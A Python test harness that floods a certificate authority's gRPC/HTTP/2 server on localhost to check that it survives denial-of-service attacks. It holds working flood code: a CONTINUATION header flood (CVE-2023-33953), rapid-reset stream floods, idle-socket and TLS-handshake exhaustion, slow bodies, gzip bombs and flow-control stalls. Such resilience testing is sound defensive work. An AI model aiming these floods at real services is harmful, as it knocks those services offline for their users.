"""Floods against a port of a CA on this host, for tests: eight connections at once, until told to stop.

    floods.py KIND PORT SECONDS ROOTS [CERTIFICATE KEY]

KIND is the name of a function below. A connection that the server closes is opened again at once. At
the end, one line on standard output: how many connections were made and how many bytes were sent.
"""

import contextlib
import os
import socket
import ssl
import struct
import sys
import threading
import time
import zlib

from tests.integration import http2

CONNECTIONS = 8
CONTINUATION, WINDOW_UPDATE = 9, 8
COMPRESSED = [("grpc-encoding", "gzip")]


class Flood:
    """What an attack is given, and what it has done."""

    def __init__(self, port, seconds, roots, certificate=None, key=None):
        self.port = port
        self.end = time.monotonic() + seconds
        self.context = http2.tls_context(roots, certificate, key)
        self.made = 0
        self.sent = 0

    def on(self):
        return time.monotonic() < self.end

    def connect(self):
        connection = http2.Connection(self.port, self.context, timeout=5)
        self.made += 1
        connection.open()
        return connection

    def send(self, connection, octets):
        connection.send(octets)
        self.sent += len(octets)


def headers(connection, flags=http2.END_HEADERS, more=(), method="IssueCertificate",
            service=http2.SERVICE):
    stream = connection.next_stream
    connection.next_stream += 2
    return stream, http2.frame(http2.HEADERS, flags, stream,
                               http2.grpc_headers(method, more, service))


def continuation(flood):
    """A header block that never ends (CVE-2023-33953): one value of a gigabyte, in small frames."""
    with flood.connect() as connection:
        stream, opening = headers(connection, flags=0)
        # A literal: a name of one octet, and a value whose length is 2^30 (RFC 7541 section 5.1).
        begun = b"\x00\x01x\x7f" + b"\x81\xff\xff\xff\x03"
        flood.send(connection, opening + http2.frame(CONTINUATION, 0, stream, begun))
        frames = http2.frame(CONTINUATION, 0, stream, b"a" * 64) * 200
        while flood.on():
            flood.send(connection, frames)


def reset(stream):
    return http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")


def resets(flood):
    """Streams that are opened and reset at once."""
    with flood.connect() as connection:
        while flood.on():
            octets = b""
            for _ in range(200):
                stream, opening = headers(connection)
                octets += opening + reset(stream)
            flood.send(connection, octets)


def short_resets(flood):
    """The same in 28 octets a stream: the server's table has the headers (RFC 7541 section 2.3.2)."""
    with flood.connect() as connection:
        flood.send(connection, http2.frame(http2.HEADERS, http2.END_HEADERS, 1,
                                           http2.grpc_headers("IssueCertificate", indexed=True)))
        flood.send(connection, reset(1))
        stream = 3
        indices = bytes(0x80 | 62 + at for at in range(6))
        while flood.on():
            octets = b""
            for _ in range(1000):
                octets += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, indices)
                octets += reset(stream)
                stream += 2
            flood.send(connection, octets)


def health_resets(flood):
    """Streams of gRPC's own health service, reset at once."""
    with flood.connect() as connection:
        while flood.on():
            octets = b""
            for _ in range(200):
                stream, opening = headers(connection, method="Check",
                                          service="grpc.health.v1.Health")
                octets += opening + reset(stream)
            flood.send(connection, octets)


def whole_resets(flood):
    """Calls that are complete, with an empty message, and reset at once."""
    with flood.connect() as connection:
        while flood.on():
            octets = b""
            for _ in range(200):
                stream, opening = headers(connection)
                octets += opening + http2.frame(http2.DATA, http2.END_STREAM, stream,
                                                http2.grpc_message(b"")) + reset(stream)
            flood.send(connection, octets)


def denied_resets(flood):
    """Streams of a method that does not exist, reset at once."""
    with flood.connect() as connection:
        while flood.on():
            octets = b""
            for _ in range(200):
                stream, opening = headers(connection, method="Nothing")
                octets += opening + reset(stream)
            flood.send(connection, octets)


def sockets(flood):
    """Fifty TCP connections of each thread that say nothing, opened again when they are closed."""
    held = []
    try:
        while flood.on():
            while len(held) < 50:
                held.append(socket.create_connection(("127.0.0.1", flood.port), timeout=5))
                flood.made += 1
            time.sleep(0.05)
            held = [one for one in held if is_open(one)]
    finally:
        for one in held:
            one.close()


def is_open(one):
    one.setblocking(False)
    try:
        return one.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def handshakes(flood):
    """TLS handshakes that are begun, which costs the server a signature, and left."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = flood.context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    hello = outgoing.read()
    while flood.on():
        with socket.create_connection(("127.0.0.1", flood.port), timeout=5) as raw:
            flood.made += 1
            raw.sendall(hello)
            flood.sent += len(hello)
            raw.recv(4096)


def slow_bodies(flood):
    """Eight streams with a message that comes by one octet in a second."""
    with flood.connect() as connection:
        streams = []
        for _ in range(8):
            stream, opening = headers(connection)
            flood.send(connection, opening)
            flood.send(connection, http2.frame(http2.DATA, 0, stream, struct.pack(">BI", 0, 5000)))
            streams.append(stream)
        while flood.on():
            for stream in streams:
                flood.send(connection, http2.frame(http2.DATA, 0, stream, b"a"))
            time.sleep(1)
            if not is_open(connection.socket):
                return
            connection.socket.settimeout(5)


def gzip_bombs(flood):
    """Messages of 16 KB that would inflate to 16 MB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = packer.compress(bytes(16 << 20)) + packer.flush()
    with flood.connect() as connection:
        while flood.on():
            status, _ = connection.call("IssueCertificate", http2.grpc_message(bomb, True),
                                        COMPRESSED)
            flood.sent += len(bomb)
            assert status != http2.OK, status


def unfinished(flood):
    """A hundred streams with messages of 31 MB that are all but finished."""
    size = 31 << 20
    with flood.connect() as connection:
        window = {0: http2.FIRST_WINDOW}
        initial = http2.FIRST_WINDOW
        connection.socket.settimeout(5)
        for _ in range(100):
            stream, opening = headers(connection, method="BatchIssueCertificates")
            flood.send(connection, opening)
            window[stream] = None
            flood.send(connection, http2.frame(http2.DATA, 0, stream, struct.pack(">BI", 0, size)))
            window[0] -= 5
        spent = dict.fromkeys(window, 5)
        block = b"\0" * http2.MAX_FRAME
        while flood.on():
            busy = False
            for stream in list(window):
                if stream == 0:
                    continue
                left = (window[stream] or initial) - spent[stream]
                octets = min(len(block), left, window[0], size - 1 - spent[stream])
                if octets > 0:
                    flood.send(connection, http2.frame(http2.DATA, 0, stream, block[:octets]))
                    spent[stream] += octets
                    window[0] -= octets
                    busy = True
            for kind, flags, stream, payload in frames_at_hand(connection, wait=not busy):
                if kind == WINDOW_UPDATE:
                    more = int.from_bytes(payload, "big")
                    if stream == 0:
                        window[0] += more
                    elif stream in window:
                        window[stream] = (window[stream] or initial) + more
                elif kind == http2.SETTINGS and not flags & http2.ACK:
                    for at in range(0, len(payload), 6):
                        name, value = struct.unpack(">HI", payload[at:at + 6])
                        if name == http2.SETTINGS_INITIAL_WINDOW_SIZE:
                            initial = value
                elif kind == http2.RST_STREAM:
                    window.pop(stream, None)


def frames_at_hand(connection, wait):
    """Whole frames that have come; waits half a second for one where `wait` says so."""
    connection.socket.settimeout(0.5 if wait else 0)
    try:
        more = connection.socket.recv(65536)
        if not more:
            raise ConnectionResetError("the server closed the connection")
        connection.buffer += more
    except (BlockingIOError, ssl.SSLWantReadError, TimeoutError):
        pass
    finally:
        connection.socket.settimeout(5)
    while len(connection.buffer) >= 9:
        if len(connection.buffer) < 9 + int.from_bytes(connection.buffer[:3], "big"):
            return
        yield connection.read_frame()


def repeat(attack, flood):
    """The attack again and again, whenever the server ends it."""
    while flood.on():
        try:
            attack(flood)
        except (OSError, AssertionError):
            time.sleep(0.005)


def main():
    attack = globals()[sys.argv[1]]
    flood = Flood(int(sys.argv[2]), float(sys.argv[3]), *sys.argv[4:])
    threads = [threading.Thread(target=repeat, args=(attack, flood), daemon=True)
               for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=max(0, flood.end - time.monotonic()) + 2)
    print("connections=%d sent=%d" % (flood.made, flood.sent), flush=True)
    os._exit(0)  # threads that hang in a connection do not matter


if __name__ == "__main__":
    main()
